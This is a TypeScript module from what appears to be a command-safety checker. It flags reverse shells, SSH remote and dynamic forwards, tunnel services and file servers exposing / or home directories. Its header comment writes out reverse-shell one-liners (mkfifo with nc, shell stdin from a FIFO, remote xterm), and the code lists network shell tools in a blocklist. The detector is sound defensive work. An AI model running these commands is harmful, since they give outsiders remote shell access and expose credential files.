// Reverse shells, tunnels and servers that open this machine to the network:
// - a shell wired to a network program: an interactive shell (`sh -i`), or one reading its script
//   from stdin, in a pipeline with nc / socat / telnet / openssl…, or a shell whose stdin is a file
//   (a FIFO) the network program writes (`mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f`,
//   `sh 0<p | nc h 4444 1>p`); zsh's own TCP (`zmodload zsh/net/tcp`, `ztcp`); an X terminal on a
//   remote display (`xterm -display host:1`);
// - a remote or dynamic port forward (`ssh -R`, `ssh -D`, `-o RemoteForward=`), and tunnel
//   services (`ngrok http`, `cloudflared tunnel`, `chisel`, `bore local`, `localtunnel` / `lt`,
//   `tailscale funnel`), a socat listener relaying to another address;
// - a file server serving `/` or a home directory (`python3 -m http.server` run there or with
//   `--directory /`, `php -S … -t /`, `busybox httpd -h /`, `ruby -run -e httpd /`,
//   `http-server ~`): every credential file in it is on the network.

import type { CommandModel, SimpleCommand } from '../command-model.js';
import { NETWORK_PROGRAMS } from '../flow/exfiltration.js';
import type { Directories } from '../knowledge/places/cwd-paths.js';
import { FETCHERS, readsScriptFromStdin, SHELLS } from '../knowledge/programs/programs.js';
import { type NetworkEnd, networkEnd, showEnd } from './remote-shells.js';

/** Programs that carry a byte stream to or from another host. */
const STREAMERS: ReadonlySet<string> = new Set([
  ...NETWORK_PROGRAMS,
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'openssl',
  'cryptcat',
  'pwncat',
]);

const SSH_VALUE = 'BbcDEeFIiJLlmOoPpQRSWw';

/** ssh's remote (-R) and dynamic (-D) forwards, as options or `-o RemoteForward=` / `DynamicForward`. */
function sshForward(argv: readonly string[]): string | null {
  for (let i = 1; i < argv.length; i++) {
    const w = argv[i] as string;
    if (!w.startsWith('-') || w === '-' || w === '--') break;
    for (let k = 1; k < w.length; k++) {
      const letter = w[k] as string;
      if (letter === 'R' || letter === 'D') return `-${letter}`;
      if (!SSH_VALUE.includes(letter)) continue;
      const value = k + 1 < w.length ? w.slice(k + 1) : (argv[++i] ?? '');
      if (letter === 'o' && /^\s*(?:RemoteForward|DynamicForward)\b/i.test(value)) return `-o ${value}`;
      break;
    }
  }
  return null;
}

const positionals = (argv: readonly string[]): string[] => argv.slice(1).filter((a) => !a.startsWith('-'));

/** A tunnel service exposing a local port, or a listener relaying to another address; null for none. */
function tunnel(seg: SimpleCommand): string | null {
  const p = seg.program;
  const a = seg.argv;
  const pos = positionals(a);
  if (p === 'ssh') {
    const f = sshForward(a);
    return f === null ? null : `ssh ${f} forwards a port of this machine to another host`;
  }
  if (p === 'ngrok' && /^(?:http|tcp|tls|start|tunnel)$/.test(pos[0] ?? ''))
    return `ngrok ${pos[0]} exposes a local port on the internet`;
  if (
    p === 'cloudflared' &&
    a.includes('tunnel') &&
    !/^(?:list|info|login|delete|cleanup|token|route)$/.test(pos[1] ?? '')
  )
    return 'cloudflared tunnel exposes a local port on the internet';
  if (p === 'chisel' && /^(?:client|server)$/.test(pos[0] ?? ''))
    return `chisel ${pos[0]} tunnels ports to or from another host`;
  if (p === 'bore' && pos[0] === 'local') return 'bore local exposes a local port on the internet';
  if ((p === 'lt' || p === 'localtunnel') && a.some((w) => /^(?:-p|--port)(?:=|$)/.test(w)))
    return `${p} exposes a local port on the internet`;
  if (p === 'tailscale' && pos[0] === 'funnel' && !/^(?:status|reset)$/.test(pos[1] ?? ''))
    return 'tailscale funnel exposes a local port on the internet';
  if (p === 'socat' && a.some((w) => /^(?:TCP[46]?|UDP[46]?|SCTP[46]?|OPENSSL|SSL|VSOCK|UNIX)-LISTEN:/i.test(w)))
    return 'socat listens on the network and relays what connects';
  if (p === 'xterm' || p === 'uxterm' || p === 'rxvt' || p === 'urxvt') {
    const k = a.findIndex((w) => w === '-display' || w === '-d');
    const display = k < 0 ? seg.assignments.find((x) => x.name === 'DISPLAY')?.value : a[k + 1];
    if (display !== undefined && /^[^:/]+:\d/.test(display) && !/^(?:localhost|127\.0\.0\.1|unix):/.test(display))
      return `${p} opens a reverse shell to ${display} (a terminal on that remote display)`;
  }
  if (p === 'zmodload' && a.some((w) => /^zsh\/net\/(?:tcp|socket)$/.test(w)))
    return 'zmodload loads zsh’s network module (a shell on a socket)';
  if (p === 'ztcp' || p === 'zsocket') return `${p} connects the shell to the network`;
  return null;
}

/** The directory a file server serves (relative to where it runs), or null when it is no file server. */
function served(seg: SimpleCommand): string | null {
  const p = seg.program;
  const a = seg.argv;
  if (/^python[0-9.]*$/.test(p)) {
    const m = a.indexOf('-m');
    if (m < 0 || !/^(?:http\.server|SimpleHTTPServer)$/.test(a[m + 1] ?? '')) return null;
    for (let i = m + 2; i < a.length; i++) {
      const w = a[i] as string;
      if (w === '-d' || w === '--directory') return a[i + 1] ?? '.';
      if (w.startsWith('--directory=')) return w.slice(12);
    }
    return '.';
  }
  if (p === 'php' && a.some((w) => w === '-S' || w.startsWith('-S'))) {
    const t = a.indexOf('-t');
    return t < 0 ? '.' : (a[t + 1] ?? '.');
  }
  if (p === 'httpd' && seg.via.includes('busybox')) {
    const h = a.indexOf('-h');
    return h < 0 ? '.' : (a[h + 1] ?? '.');
  }
  if (p === 'ruby' && (a.includes('-run') || a.some((w, i) => w === '-r' && a[i + 1] === 'un'))) {
    const e = a.indexOf('-e');
    if (e < 0 || a[e + 1] !== 'httpd') return null;
    return (
      a
        .slice(e + 2)
        .find((w, i, rest) => !w.startsWith('-') && !/^-[pb]$|^--(?:port|bind-address)$/.test(rest[i - 1] ?? '')) ?? '.'
    );
  }
  if (p === 'http-server' || p === 'serve') return positionals(a)[0] ?? '.';
  return null;
}

const HOME_OR_ROOT = /^(?:\/+|~[\w.-]*\/*|\$HOME\/*|\$\{HOME\}\/*|\/root\/*|\/home\/[^/]+\/*|\/Users\/[^/]+\/*)$/;

/** Whether the served directory, from where the server runs, is `/`, a home directory or a broad top-level directory (`/etc`). */
function servesBroad(dir: string, dirs: Directories, isBroad: (w: string) => boolean): boolean {
  const absolute = dir.startsWith('/') || dir.startsWith('~') || dir.startsWith('$');
  const targets = absolute
    ? [dir]
    : dirs.list.map((d) => (d === '' ? '' : dir === '.' || dir === './' ? d : `${d.replace(/\/$/, '')}/${dir}`));
  return targets.some((t) => t !== '' && (HOME_OR_ROOT.test(t) || (/^\/[^/]+\/?$/.test(t) && isBroad(t))));
}

function isInteractiveShell(seg: SimpleCommand): boolean {
  if (!SHELLS.has(seg.program)) return false;
  for (const w of seg.argv.slice(1)) {
    if (!w.startsWith('-') || w.startsWith('--')) return w === '--interactive';
    if (w.includes('i')) return true;
  }
  return false;
}

/** The file a segment's stdin reads (`< f`, `0< f`), and the files its stdout writes (`> f`, `1> f`). */
const stdinFile = (seg: SimpleCommand): string[] =>
  seg.redirects.filter((r) => r.op === '<' && (r.fd === undefined || r.fd === 0)).map((r) => r.target);
const stdoutFiles = (seg: SimpleCommand): string[] =>
  seg.redirects
    .filter((r) => r.is_write && (r.fd === undefined || r.fd === 1) && !r.op.includes('&'))
    .map((r) => r.target);

/** Top-level pipeline id of a segment (the pipeline it, or the stage it sits in, belongs to). */
function pipelineId(seg: SimpleCommand): number | null {
  let p = seg.pipeline;
  if (p === null) return null;
  while (p.outer !== undefined) p = p.outer;
  return p.id;
}

/** Reports (as dangerous reasons) the reverse shells, tunnels and exposed file servers of a command. */
export function tunnelRules(
  model: CommandModel,
  directories: (i: number) => Directories,
  isBroad: (word: string) => boolean,
  add: (reason: string) => void,
): void {
  const segs = model.segments;
  const streamers = new Map<number, number[]>();
  segs.forEach((seg, i) => {
    if (seg.wrapper || !STREAMERS.has(seg.program)) return;
    const id = pipelineId(seg);
    if (id === null) return;
    const list = streamers.get(id);
    if (list === undefined) streamers.set(id, [i]);
    else list.push(i);
  });
  segs.forEach((seg, i) => {
    const label = `segment ${i + 1}`;
    if (seg.wrapper) return;
    const t = tunnel(seg);
    if (t !== null) add(`${label}: ${t}`);
    const dir = served(seg);
    if (dir !== null && servesBroad(dir, directories(i), isBroad))
      add(`${label}: ${seg.program} serves '${dir}' (a home directory or /) to the network`);
    if (!SHELLS.has(seg.program)) return;
    const id = pipelineId(seg);
    const peers = id === null ? [] : (streamers.get(id) ?? []);
    if (peers.length === 0) return;
    const fifo = stdinFile(seg).some((f) => peers.some((j) => stdoutFiles(segs[j] as SimpleCommand).includes(f)));
    if (isInteractiveShell(seg) || fifo || readsScriptFromStdin(seg)) {
      const k = peers.find((j) => networkEnd(segs[j] as SimpleCommand) !== null);
      // a shell reading only what earlier fetchers download is classify.ts's `curl | sh`
      const fetched = peers.every((j) => j < i && FETCHERS.has((segs[j] as SimpleCommand).program));
      if (k === undefined && !isInteractiveShell(seg) && !fifo && fetched) return;
      const at = k ?? (peers[0] as number);
      const end: NetworkEnd =
        k === undefined ? { listen: false } : (networkEnd(segs[k] as SimpleCommand) as NetworkEnd);
      add(
        `${label}: ${seg.program} ${showEnd(end)} (wired to ${(segs[at] as SimpleCommand).program}, segment ${at + 1})`,
      );
    }
  });
}
